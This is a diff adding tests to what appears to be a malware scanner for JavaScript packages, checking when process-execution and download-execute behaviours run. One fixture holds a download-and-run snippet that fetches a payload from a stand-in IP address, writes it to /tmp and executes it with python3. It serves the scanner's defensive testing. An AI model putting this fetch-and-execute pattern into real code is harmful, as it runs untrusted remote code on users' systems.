@@ -59,3 +59,37 @@ def test_fetch_and_eval_in_one_function_is_download_exec_in_its_own_scope_only()
     kinds = [(s.kind, s.line) for s in _scan(code)]
     assert (sg.DOWNLOAD_EXEC, 1) in kinds
     assert not [k for k in kinds if k[0] == sg.DOWNLOAD_EXEC and k[1] == 2]
+
+
+def test_named_functions_called_when_the_file_runs_and_callbacks_run_then_too() -> None:
+    code = (
+        "const cp = require('child_process');\n"
+        "function step2() { cp.exec('echo step2'); }\n"
+        "function step1() { step2(); }\n"
+        "const viaVar = function () { cp.exec('echo var'); };\n"
+        "function exported() { cp.exec('echo exported'); }\n"
+        "module.exports = { exported };\n"
+        "setTimeout(() => { cp.exec('echo callback'); }, 10);\n"
+        "step1();\nviaVar();\n"
+    )
+    phases = {s.detail.get("command"): s.phase for s in _scan(code) if s.kind == sg.PROCESS}
+    assert phases == {"echo step2": sg.IMPORT, "echo var": sg.IMPORT, "echo callback": sg.IMPORT,
+                      "echo exported": sg.RUNTIME}
+
+
+def test_a_download_written_and_run_from_callbacks_is_one_download_exec() -> None:
+    code = (
+        "const fs = require('fs'), request = require('request'), cp = require('child_process');\n"
+        "function dl() {\n"
+        "  request.get('http://203.0.113.9/p', (e, r, body) => {\n"
+        "    fs.writeFileSync('/tmp/p.py', body);\n"
+        "    cp.exec('python3 /tmp/p.py');\n"
+        "  });\n"
+        "}\n"
+        "dl();\n"
+    )
+    signals = _scan(code)
+    assert {(s.kind, s.phase) for s in signals if s.kind in (sg.DOWNLOAD_EXEC, sg.WRITE_EXEC)} == {
+        (sg.DOWNLOAD_EXEC, sg.IMPORT), (sg.WRITE_EXEC, sg.IMPORT)}
+    later = _scan(code.replace("dl();\n", "module.exports = dl;\n"))
+    assert not [s for s in later if s.kind == sg.DOWNLOAD_EXEC]  # only when called: not at import
